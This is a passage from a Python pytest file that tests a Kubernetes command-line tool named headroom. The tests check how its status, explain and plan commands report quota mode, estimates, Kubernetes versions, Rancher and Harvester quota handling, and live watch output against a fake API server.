    server: ThreadedServer, mode: str, estimate: str, namespace: str = "headroom-system", **more_annotations: str
) -> None:
    data = {"mode": mode, "estimate": estimate, "version": "1", **more_annotations}
    path = registry.CONFIG_MAPS.path(namespace, "headroom")
    server.server.always(GET, path, body({"metadata": {"name": "headroom", "namespace": namespace}, "data": data}))


IN_ASSIST = ("assist", "harvester")
BASES: Mapping[str, tuple[tuple[str, str] | None, list[str], tuple[str, str, str | None]]] = {
    "nothing is known": (None, [], ("takeover", "exact", None)),
    "the controller's ConfigMap": (IN_ASSIST, [], ("assist", "harvester", "ConfigMap headroom-system/headroom")),
    "a flag beats it": (IN_ASSIST, ["--mode", "takeover"], ("takeover", "exact", "flags")),
    "an estimate for the running mode": (IN_ASSIST, ["--estimate", "exact"], ("assist", "exact", "flags")),
    "what is no installation is not believed": (("both", "neither"), [], ("takeover", "exact", None)),
}


@sentences(BASES)
@pytest.mark.parametrize("command", [["status"], ["explain", f"{NS}/vm1"], ["plan", "-n", NS]], ids=lambda c: c[0])
def test_what_a_report_goes_by(
    case: tuple[tuple[str, str] | None, list[str], tuple[str, str, str | None]],
    command: list[str],
    server: ThreadedServer,
    call: Call,
) -> None:
    message, flags, (mode, estimate, source) = case
    if message:
        published(server, *message)
    answer = json.loads(call(*command, *flags, "-o", "json").out)["basis"]
    assert answer == {"mode": mode, "estimate": estimate, "source": source, "kubernetes": ["v1.37.2"]}
    assert ("are assumed" in call(*command, *flags).out) is (source is None)


@pytest.mark.parametrize("way", ["direct", "annotation"])
def test_status_says_how_quotas_of_rancher_are_raised(way: str, server: ThreadedServer, call: Call) -> None:
    published(server, "takeover", "exact", rancher_quotas=way, rancher_reason="so")
    assert json.loads(call("status", "-o", "json").out)["rancherQuotas"] == way
    assert ("quotas of Rancher are raised by annotation: so" in call("status").out) is (way == "annotation")


DIFFER = "API servers differ (v1.36.3, v1.37.2): the larger count holds\n"
UNKNOWN = "Kubernetes version {} is not known to headroom: the largest count of any release holds\n"


@pytest.mark.parametrize(
    ("runs", "controller", "counts", "says"),
    [
        pytest.param("v1.36.3", "v1.36.3", ["v1.36.3"], "", id="one release"),
        pytest.param("v1.37.2", "v1.36.3 v1.37.2", ["v1.36.3", "v1.37.2"], DIFFER, id="an upgrade"),
        pytest.param("v1.37.2", "v1.35.1 v1.36.3", ["v1.37.2"], "", id="an upgrade that was long ago"),
        pytest.param("v1.38.0", "", ["v1.38.0"], UNKNOWN.format("'v1.38.0'"), id="a newer release"),
        pytest.param(None, "", [""], UNKNOWN.format("''"), id="a server that does not say"),
    ],
)
def test_status_says_which_release_counts(
    runs: str | None, controller: str, counts: list[str], says: str, server: ThreadedServer, call: Call
) -> None:
    version_reply = status(403, "Forbidden", "no") if runs is None else body({"gitVersion": runs})
    server.server.always(GET, "/version", version_reply)
    published(server, "takeover", "exact", kubernetes=controller)
    assert json.loads(call("status", "-o", "json").out)["basis"]["kubernetes"] == counts
    assert call("status").out.endswith(f"\n{says}")
    assert ("Kubernetes" in call("status").out or "differ" in call("status").out) is bool(says)


def test_in_assist_mode_harvesters_rules_are_promised(server: ThreadedServer, call: Call) -> None:
    """A full base: the second pod's console log is beyond Harvester's formula."""
    published(server, "assist", "harvester")
    full = {"limits.cpu": "2015m", "limits.memory": "5000Mi"}
    limits = '{"limit":{"limitsCpu":"2015m","limitsMemory":"5000Mi"}}'
    annotated = {"metadata": {"name": NS, "annotations": {"field.cattle.io/resourceQuota": limits}}}
    rq = charged(quota(full), [SOURCE])
    server.server.always(GET, registry.NAMESPACES.path(name=NS), body(annotated))
    server.lists(registry.RESOURCE_QUOTAS, rq)
    output = call("explain", f"{NS}/vm1").out
    assert "kept by harvester and headroom" in output
    assert "headroom: raises limits.cpu from 2015m to 4015m, limits.memory from 4.9Gi to 9.3Gi" in output
    assert "mode assist leaves limits.cpu 15m missing: --mode takeover shows what takeover would add" in output


RAISED = charged(quota({"limits.cpu": "5015m", "limits.memory": "10000Mi"}, MARKS), [SOURCE])
SAID_FIRST = {
    "status": "ns1/default-abc limits.cpu 3, limits.memory 4.9Gi",
    "explain": "ns1/vm1 waits for quota: migration-of-vm1 does not fit: default-abc lacks",
}
SAID_THEN = {
    "status": "ns1/default-abc limits.cpu 5015m, limits.memory 9.8Gi",
    "explain": "ns1/vm1 waits for KubeVirt: ",
}


@pytest.mark.parametrize("terminal", [False, True], ids=["in a pipe", "on a terminal"])
@pytest.mark.parametrize("command", [["status"], ["explain", f"{NS}/vm1"]], ids=["status", "explain"])
def test_a_watch_shows_what_changes(
    command: list[str], terminal: bool, server: ThreadedServer, kubeconfig: str, tmp_path: Path
) -> None:
    """And a server that does not answer for a while is said once, and does not end it."""
    screen_text, log_path = b"", tmp_path / "out"
    leader, follower = pty.openpty()
    os.set_blocking(leader, False)
    arguments = (*command, "--watch", "--kubeconfig", kubeconfig)

    def text() -> str:
        nonlocal screen_text
        if not terminal:
            return log_path.read_text()
        try:
            screen_text += os.read(leader, 1 << 20)
        except BlockingIOError:
            pass
        return re.sub(r"\x1b\[[0-9;?]*[a-zA-Z]", "", screen_text.decode(errors="ignore"))

    env = environment() | {"TERM": "xterm", "COLUMNS": "120", "LINES": "60"}
    with log_path.open("wb") as file, (tmp_path / "err").open("wb") as err, os.fdopen(follower, "wb", 0) as screen:
        process = ForkedProcess(arguments, screen if terminal else file, err, env)
        try:
            first_text = "headroom works" if command == ["status"] else "kept by headroom"
            eventually(lambda: (first_text if terminal else SAID_FIRST[command[0]]) in text(), why=text)
            path = registry.RESOURCE_QUOTAS.path("" if command == ["status"] else NS)
            server.server.always(LIST, path, status(403, "Forbidden", "not now"))
            eventually(lambda: "not now, trying again" in text() + (tmp_path / "err").read_text(), why=text)
            server.server.always(LIST, path, listing([msgspec.to_builtins(RAISED)], "11"))
            next_text = {"status": "9.8Gi", "explain": "waits for KubeVirt"} if terminal else SAID_THEN
            eventually(lambda: next_text[command[0]] in text(), why=text)
        finally:
            process.send_signal(signal.SIGINT)
        assert process.wait(10) == 130
    os.close(leader)
    if command == ["status"]:
        for coloured in (b"\x1b[32mheadroom works", b"\x1b[33mns1/default-abc"):
            assert (coloured in screen_text) is terminal
    if not terminal:
        lines = [line.partition(" ")[2] for line in log_path.read_text().splitlines()]
        assert len(lines) == 3, "headroom itself, and the two states"
        assert (tmp_path / "err").read_text().count("not now") == 1
